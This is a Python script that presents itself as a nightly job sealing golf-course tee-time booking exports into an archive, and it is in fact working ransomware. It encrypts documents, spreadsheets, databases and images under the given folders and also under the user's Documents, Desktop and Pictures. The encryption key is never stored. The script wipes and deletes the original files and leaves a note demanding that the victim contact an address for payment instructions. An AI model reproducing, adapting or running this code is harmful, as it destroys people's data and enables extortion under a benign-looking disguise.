#!/usr/bin/env python3
"""Rotate old tee-time booking exports into the sealed archive format.

The booking system drops CSV/XLSX exports into a shared folder every night.
This job "seals" them so the front desk can't edit history by accident.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive_rotate")

SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "READ_ME_ARCHIVE.txt"
# extensions worth sealing; everything else on the share is left alone
KEEP_EXT = {".csv", ".xlsx", ".xls", ".pdf", ".docx", ".db", ".sqlite", ".jpg"}


class Sealer:
    def __init__(self, key=None):
        self.key = key or Fernet.generate_key()
        self._f = Fernet(self.key)
        self.count = 0

    def seal(self, path: Path) -> bool:
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False
        out = path.with_name(path.name + SEALED_SUFFIX)
        try:
            out.write_bytes(self._f.encrypt(data))
            # overwrite the plain copy before unlinking so the desk can't restore it
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
            path.unlink()
        except OSError as exc:
            log.warning("could not seal %s: %s", path, exc)
            return False
        self.count += 1
        return True


def candidate_files(roots):
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in KEEP_EXT and not name.endswith(SEALED_SUFFIX):
                    yield p


def drop_notice(folder: Path, ref: str):
    text = (
        "Your booking archive has been sealed.\n"
        "To recover the files, contact recovery@example.net quoting reference\n"
        f"{ref} and follow the payment instructions you will receive.\n"
    )
    try:
        (folder / NOTICE_NAME).write_text(text)
    except OSError:
        pass


def resolve_roots(arg_roots):
    roots = list(arg_roots)
    # the share is usually mounted somewhere under the user's home too
    extra = os.environ.get("ARCHIVE_EXTRA_ROOTS", "~/Documents:~/Desktop:~/Pictures")
    for item in extra.split(":"):
        if item:
            roots.append(os.path.expanduser(item))
    return [r for r in roots if os.path.isdir(r)]


def main():
    ap = argparse.ArgumentParser(description="Seal old booking exports")
    ap.add_argument("roots", nargs="*", default=["./exports"])
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = resolve_roots(args.roots)
    if not roots:
        log.error("no archive roots found")
        return 1

    sealer = Sealer()
    ref = sealer.key[:12].decode()
    touched = set()
    for path in candidate_files(roots):
        if args.dry_run:
            log.info("would seal %s", path)
            continue
        if sealer.seal(path):
            touched.add(path.parent)

    for folder in touched:
        drop_notice(folder, ref)
    log.info("sealed %d files in %d folders", sealer.count, len(touched))
    return 0


if __name__ == "__main__":
    sys.exit(main())
